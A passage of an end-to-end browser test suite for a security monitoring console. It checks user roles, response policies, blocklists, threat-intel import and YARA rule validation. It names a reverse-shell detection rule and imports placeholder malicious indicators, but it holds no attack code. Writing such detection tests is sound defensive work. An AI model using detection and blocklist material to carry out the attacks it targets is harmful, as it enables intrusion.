  await page.getByRole('button', { name: 'Verify hash chain' }).click();
  await page.getByText(/Chain intact/).waitFor();
  assert.deepEqual(admin.takeProblems(), []);
});

test('an analyst may collect but not contain: no isolate button, only the actions of the role', async () => {
  const created = await api.post('/api/v1/users', { username: 'analyst1', password: 'analyst-password-0123', role: 'analyst' });
  assert.equal(created.status, 200, JSON.stringify(created.body));
  const tab = await openTab(browser, server);
  const { page } = tab;
  await login(page, 'analyst1', 'analyst-password-0123');
  await visit(page, `/hosts/${agent.agentId}`, host);
  await page.getByTestId('isolation').waitFor();
  assert.equal(await page.getByRole('button', { name: /Isolate host|Release isolation/ }).count(), 0);
  await page.getByRole('button', { name: 'Run action…' }).click();
  // The action list arrives from the server's catalog after the dialog opens.
  await page.getByRole('dialog').getByLabel('Action').locator('option[value="agent.ping"]').waitFor({ state: 'attached' });
  const options = await page.getByRole('dialog').getByLabel('Action').locator('option').evaluateAll((els) => els.map((e) => e.getAttribute('value')));
  assert.ok(options.includes('agent.ping') && !options.includes('host.isolate') && !options.includes('file.delete'), JSON.stringify(options));
  await page.keyboard.press('Escape');
  await visit(page, '/policies', 'Policies');
  assert.equal(await page.getByRole('button', { name: 'New policy…' }).count(), 0);
  assert.deepEqual(tab.takeProblems(), []);
  await tab.context.close();
});

test('a response policy and a blocklist entry are created and removed in the console', async () => {
  const { page } = admin;
  await visit(page, '/policies', 'Policies');
  await page.getByRole('button', { name: 'New policy…' }).click();
  const editor = page.getByRole('dialog', { name: 'New response policy' });
  await editor.getByLabel('Name').fill(`ping-${marker}`);
  await editor.getByLabel('Alerts at or above').selectOption('critical');
  await editor.getByLabel('Action 1', { exact: true }).selectOption('agent.ping');
  await editor.getByLabel('Arguments of action 1 (JSON)').fill('{"echo": "alert {{alert.id}}"}');
  await editor.getByRole('button', { name: 'Save policy' }).click();
  const row = page.getByTestId('policies-table').locator('tr', { hasText: `ping-${marker}` });
  await row.waitFor();
  assert.match((await row.textContent()) ?? '', /level ≥ critical.*agent\.ping.*dry run/s);
  await row.getByRole('button', { name: 'Disable' }).click();
  await row.getByText('disabled').waitFor();
  await row.getByRole('button', { name: 'Delete' }).click();
  await page.getByRole('dialog', { name: /Delete policy/ }).getByRole('button', { name: 'Delete policy' }).click();
  await row.waitFor({ state: 'detached' });

  await visit(page, '/blocklist', 'Blocklist');
  await page.getByLabel('Block by').selectOption('path');
  await page.getByLabel('Value').fill(`/tmp/${marker}/**`);
  await page.getByRole('button', { name: 'Add to blocklist' }).click();
  const entry = page.getByTestId('blocklist-table').locator('tr', { hasText: `/tmp/${marker}/**` });
  await entry.waitFor();
  await entry.getByRole('button', { name: 'Remove' }).click();
  await page.getByRole('dialog', { name: 'Remove from the blocklist' }).getByRole('button', { name: 'Remove' }).click();
  await entry.waitFor({ state: 'detached' });
  assert.deepEqual(admin.takeProblems(), []);
});

test('threat intel is checked, imported and listed; a YARA rule set shows located compile errors, then uploads and activates', async () => {
  const { page } = admin;
  await visit(page, '/intel?tab=import', 'Threat intel');
  await page.getByLabel('or paste').fill(`203.0.113.77\nevil-${marker}.example.com\n`);
  await page.getByLabel('Format').selectOption('list');
  await page.getByRole('button', { name: 'Check' }).click();
  await page.getByTestId('import-result').getByText(/Checked \(nothing stored\).*2 indicators/).waitFor();
  await page.getByLabel('Dry run (check, store nothing)').uncheck();
  await page.getByRole('button', { name: 'Import', exact: true }).click();
  await page.getByTestId('import-result').getByText(/Imported.*2 new/).waitFor();
  await page.getByRole('tab', { name: 'Indicators' }).click();
  await page.getByTestId('indicators-table').getByText(`evil-${marker}.example.com`).waitFor();

  await visit(page, '/yara', 'YARA');
  await page.getByRole('button', { name: 'Upload rule set…' }).click();
  const dialog = page.getByRole('dialog', { name: 'Upload YARA rule set' });
  await dialog.getByLabel('Name').fill(`console-${marker}`);
  await dialog.getByLabel('or paste rules').fill('rule broken {\n  strings: $a = "x"\n  condition: $b\n}\n');
  await dialog.getByRole('button', { name: 'Validate' }).click();
  await dialog.getByText('Does not compile.').waitFor();
  assert.match((await dialog.getByTestId('yara-problems').textContent()) ?? '', /pasted\.yar:3:\d+/, 'the error names file, line and column');
  await dialog.getByLabel('or paste rules').fill(`rule console_${marker.replace(/-/g, '_')} {\n  strings: $a = "${marker}"\n  condition: $a\n}\n`);
  await dialog.getByRole('button', { name: 'Validate' }).click();
  await dialog.getByText('Compiles: 1 rules.').waitFor();
  await dialog.getByLabel('Activate (agents use it)').check();
  await dialog.getByRole('button', { name: 'Upload' }).click();
  const row = page.getByTestId('yara-rulesets').locator('tr', { hasText: `console-${marker}` });
  await row.getByText('active').waitFor();
  await shot(page, 'yara');
  assert.ok(admin.takeProblems().every((p) => /status of 400/.test(p)));
});

test('a viewer sees the data but no response, triage or edit actions, and no admin pages', async () => {
  const created = await api.post('/api/v1/users', { username: 'viewer1', password: 'viewer-password-0123', role: 'viewer' });
  assert.equal(created.status, 200, JSON.stringify(created.body));
  const tab = await openTab(browser, server);
  const { page } = tab;
  await login(page, 'viewer1', 'viewer-password-0123');
  assert.equal(await page.getByTestId('role').textContent(), 'viewer');
  const nav = await page.locator('[data-nav]').evaluateAll((links) => links.map((a) => a.getAttribute('data-nav')));
  assert.deepEqual(nav, ['overview', 'hosts', 'alerts', 'hunt', 'sweeps', 'intel', 'yara', 'rules', 'integrations']);
  const none = async (what: string, locator: ReturnType<Page['locator']>) => assert.equal(await locator.count(), 0, `viewer sees no ${what}`);

  await visit(page, '/hosts', 'Hosts');
  await page.locator(`[data-host-id="${agent.agentId}"]`).waitFor();
  await none('Add hosts button', page.getByRole('button', { name: /Add hosts/ }));
  await visit(page, `/hosts/${agent.agentId}`, host);
  await page.getByRole('grid', { name: 'Host timeline' }).getByRole('row').nth(2).waitFor();
  await none('revoke button', page.getByRole('button', { name: /Revoke/ }));
  await none('response actions', page.getByRole('button', { name: /Isolate|Release|Kill|Quarantine|Run action/i }));
  await visit(page, '/alerts?status=all', 'Alerts');
  await page.getByTestId('alerts-table').waitFor();
  await none('status selects', page.getByTestId('row-status'));
  await none('selection checkboxes', page.getByRole('checkbox'));
  await none('bulk actions', page.getByTestId('bulk-apply'));
  // The reverse-shell alert has a process tree; the newest alert of the host may be an anomaly finding, which has none.
  const alert = (await alertsOfHost()).find((a) => a.ruleTitle === REVERSE_SHELL)!;
  await visit(page, `/alerts/${alert.id}`);
  await page.getByTestId('process-graph').waitFor();
  await none('triage form', page.getByRole('button', { name: 'Save triage' }));
  await visit(page, '/rules', 'Rules');
  await page.getByTestId('rules-table').waitFor();
  await none('New rule button', page.getByRole('button', { name: 'New rule' }));
  await none('enable switches', page.getByRole('switch'));
  await visit(page, '/rules/0c071acc-8823-4eb5-ba7c-4303224176ef', REVERSE_SHELL);
  await none('Save or Disable', page.getByRole('button', { name: /^(Save|Disable|Delete…)$/ }));
  assert.equal(await page.locator('#rule-text').getAttribute('readonly'), '');
  await visit(page, '/hunt', 'Hunt');
  await none('Save hunt button', page.getByRole('button', { name: 'Save…' }));
  await visit(page, '/integrations', 'Integrations');
  await none('Add destination', page.getByRole('button', { name: /Add destination/ }));
  await visit(page, '/users', 'Not allowed');
  await shot(page, 'viewer-alerts');
  assert.deepEqual(tab.takeProblems(), []);
  await tab.context.close();
});

test('an expired session returns to the login form and back to the same page after logging in again', async () => {
  const tab = await openTab(browser, server);
  const { page } = tab;
  await login(page);
  await visit(page, '/rules', 'Rules');
  // End the browser's session on the server, as expiry would.
  const cookie = (await tab.context.cookies()).find((c) => c.name === 'vigil_session')!;
  const ended = await request(`${server.apiUrl}/api/v1/auth/logout`, { body: {}, token: cookie.value, ca: server.caPem });
  assert.equal(ended.status, 200);
  await page.locator('[data-nav="alerts"]').click();
  await page.getByTestId('session-expired').waitFor();
  assert.equal(new URL(page.url()).pathname, '/alerts', 'the URL keeps the page');
  await page.getByLabel('User name').fill('admin');
  await page.getByLabel('Password').fill(ADMIN_PASSWORD);
  await page.getByRole('button', { name: 'Log in' }).click();
  await page.locator('#page-title', { hasText: 'Alerts' }).waitFor();
  assert.ok(tab.takeProblems().every((p) => /status of 401/.test(p)), 'only the refused calls logged errors');
  await tab.context.close();
});

test('every page loads without console errors, page errors or CSP violations', async () => {
  const { page } = admin;
  const alert = (await alertsOfHost())[0]!;
  const sweep = await api.post('/api/v1/sweeps', { indicators: [{ type: 'ip', value: '10.0.0.5' }] });
  assert.equal(sweep.status, 202, JSON.stringify(sweep.body));
  const pages: [string, string | RegExp][] = [
    ['/', 'Overview'],
    ['/hosts', 'Hosts'],
    ['/hosts?group=os', 'Hosts'],
    [`/hosts/${agent.agentId}`, host],
    [`/hosts/${agent.agentId}?tab=processes`, host],
    [`/hosts/${agent.agentId}?tab=connections`, host],
    [`/hosts/${agent.agentId}?tab=alerts`, host],
    [`/hosts/${agent.agentId}?tab=changes`, host],
    [`/hosts/${agent.agentId}?tab=inventory`, host],
    [`/hosts/${agent.agentId}/processes/${entity.bash}`, 'Process tree'],
    ['/alerts', 'Alerts'],
    ['/alerts?view=incidents&status=all', 'Alerts'],
    [`/alerts/${alert.id}`, alert.ruleTitle],
    ['/hunt', 'Hunt'],
    ['/hunt?tab=saved', 'Hunt'],
    ['/sweeps', 'IOC sweeps'],
    [`/sweeps/${sweep.body.id}`, 'IOC sweeps'],
    ['/intel', 'Threat intel'],
    ['/intel?tab=indicators', 'Threat intel'],
    ['/intel?tab=feeds', 'Threat intel'],
    ['/intel?tab=import', 'Threat intel'],
    ['/yara', 'YARA'],
    ['/yara?tab=sweeps', 'YARA'],
    ['/yara?tab=schedules', 'YARA'],
    ['/rules', 'Rules'],
    ['/rules?tab=packs', 'Rules'],
    ['/rules?tab=problems', 'Rules'],
    ['/rules/0c071acc-8823-4eb5-ba7c-4303224176ef', REVERSE_SHELL],
    ['/rules/new', 'New rule'],
    ['/response', 'Response'],
    ['/response?tab=approvals', 'Response'],
    ['/response?tab=evidence', 'Response'],
    ['/response?tab=key', 'Response'],
    ['/policies', 'Policies'],
    ['/blocklist', 'Blocklist'],
    ['/integrations', 'Integrations'],
    ['/users', 'Users and access'],
    ['/audit', 'Audit log'],
    ['/audit?tab=response', 'Audit log'],
    ['/no/such/page', 'Not found'],
  ];
  admin.takeProblems();
  for (const [path, title] of pages) {
    await visit(page, path, title);
    await page.waitForLoadState('networkidle');
    assert.deepEqual(admin.takeProblems(), [], `problems on ${path}`);
    const csp = await page.evaluate<string | null>("fetch(location.href).then((r) => r.headers.get('content-security-policy'))");
    assert.ok(csp?.includes("script-src 'self'"), `CSP on ${path}`);
  }
  await visit(page, `/sweeps/${sweep.body.id}`, 'IOC sweeps');
  await page.getByTestId('sweep-results').getByText('10.0.0.5').waitFor();
  await shot(page, 'sweeps');
  for (const [path, name] of [['/rules', 'rules'], ['/intel', 'intel'], ['/response', 'response'], ['/policies', 'policies'], ['/integrations', 'integrations'], ['/users', 'users'], ['/audit', 'audit']] as const) {
    await visit(page, path);
    await page.waitForLoadState('networkidle');
    await shot(page, name);
  }
});
